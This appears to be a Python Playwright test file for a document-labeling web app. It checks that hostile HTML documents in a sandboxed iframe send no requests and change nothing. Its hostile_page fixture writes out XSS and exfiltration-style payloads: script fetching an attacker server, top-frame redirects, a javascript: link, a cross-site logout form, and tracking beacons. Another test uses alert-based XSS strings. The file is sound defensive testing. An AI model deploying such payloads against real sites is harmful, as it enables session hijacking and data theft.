"""Documents are untrusted: whatever they contain, they send and change nothing."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import nullcontext
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from unittest.mock import patch

import pytest
from playwright.sync_api import Dialog, Page, expect

from firstpage.labeling.app import document_html
from firstpage.labeling.app.store.texts import DocumentRecord, QueryRecord
from tests.labeling.app.browser.actions import answer, ready
from tests.labeling.app.browser.live import Live


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    """Yield the URL of a server of an attacker, and the paths that were requested from it."""
    calls: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            calls.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", calls
    server.shutdown()
    server.server_close()
    thread.join(5)


def hostile_page(attacker_url: str, site_url: str) -> str:
    return f"""
    <html><head><base href="{attacker_url}/base/">
    <meta http-equiv="refresh" content="0; url={attacker_url}/refresh">
    <link rel="prefetch" href="{attacker_url}/prefetch"><link rel="dns-prefetch" href="{attacker_url}">
    <link rel="preconnect" href="{attacker_url}"><link rel="stylesheet" href="{attacker_url}/sheet.css">
    <style>@import url({attacker_url}/import.css); body {{ background: url({attacker_url}/bg.png) }}
      @font-face {{ font-family: x; src: url({attacker_url}/font.woff) }} p {{ font-family: x }}</style>
    </head><body onload="top.location='{attacker_url}/onload'">
    <p id="words">words of the document</p>
    <script>document.title='ran'; fetch('{attacker_url}/fetch'); top.location='{attacker_url}/top';
      parent.document.body.innerHTML='gone'</script>
    <img src="{attacker_url}/beacon.png" onerror="fetch('{attacker_url}/onerror')">
    <img srcset="{attacker_url}/set.png 1x"><picture><source srcset="{attacker_url}/source.png"><img></picture>
    <iframe src="{attacker_url}/frame"></iframe><object data="{attacker_url}/object"></object>
    <embed src="{attacker_url}/embed"><video src="{attacker_url}/video" poster="{attacker_url}/poster" autoplay></video>
    <svg><image href="{attacker_url}/svg.png"/><a href="{attacker_url}/svga"><text y="20">svg</text></a></svg>
    <form id="f" action="{attacker_url}/form" method="post" target="_top"><input name="a" value="b">
      <button id="send">send</button></form>
    <form action="{site_url}/logout" method="post" target="_top"><button id="out">out</button></form>
    <a id="link" href="{attacker_url}/link" target="_top" ping="{attacker_url}/ping">a link</a>
    <a id="plain" href="{attacker_url}/plain">another</a><a id="self" href="/logout">ours</a>
    <a id="js" href="javascript:top.location='{attacker_url}/js'">script</a>
    </body></html>"""


def open_hostile_task(live: Live, attacker_url: str) -> tuple[int, Page]:
    """Open a task with hostile documents, and click all their links and buttons."""
    documents = tuple(
        DocumentRecord(f"d{i}", f"Evil {i}", "html", hostile_page(attacker_url, live.url))
        for i in range(4)
    )
    live.bait = attacker_url
    live.add_project("books", [QueryRecord("q0", "hostile", "", documents)], setting={"k": 2})
    task = live.task("books", "ada")
    page = live.open(f"/tasks/{task}")
    ready(page)
    frame = page.frame_locator("#left iframe:not(.hidden)")
    expect(frame.get_by_text("words of the document")).to_be_visible()
    for name in ("send", "out", "link", "plain", "self", "js"):
        element = frame.locator(f"#{name}")
        if element.count():
            element.click()
    page.wait_for_timeout(400)
    return task, page


@pytest.mark.parametrize("cleaning", [True, False])
def test_hostile_documents_have_no_effect(
    live: Live, attacker: tuple[str, list[str]], cleaning: bool
) -> None:
    """The sandbox and the policy of the frame suffice even without the sanitizer."""
    attacker_url, calls = attacker
    with (
        nullcontext()
        if cleaning
        else patch.object(document_html, "sanitize_document", lambda text: text)
    ):
        task, page = open_hostile_task(live, attacker_url)
        expect(page.get_by_role("heading", name="hostile")).to_be_visible()
        frame = page.frame_locator("#left iframe:not(.hidden)")
        expect(frame.get_by_text("words of the document")).to_be_visible()
        assert live.logged(task) == []
        assert page.title().startswith("Judge")
        answer(page, "ArrowLeft")  # the assessor is still signed in and the page still works
        assert len(live.logged(task)) == 1
        assert calls == []


def test_titles_and_texts_are_text(live: Live) -> None:
    bad = "<img src=x onerror=alert(1)><script>alert(2)</script>"
    documents = tuple(DocumentRecord(f"d{i}", bad, body=bad) for i in range(3))
    live.add_project("books", [QueryRecord("q0", bad, bad, documents)], setting={"k": 2})
    page = live.open(f"/tasks/{live.task('books', 'ada')}")
    messages: list[str] = []

    def dismissed(dialog: Dialog) -> None:
        messages.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismissed)
    ready(page)
    expect(page.locator("#query")).to_have_text(bad)
    expect(page.locator("#left-title")).to_have_text(bad)
    expect(page.frame_locator("#left iframe:not(.hidden)").locator("p").first).to_have_text(bad)
    assert messages == []
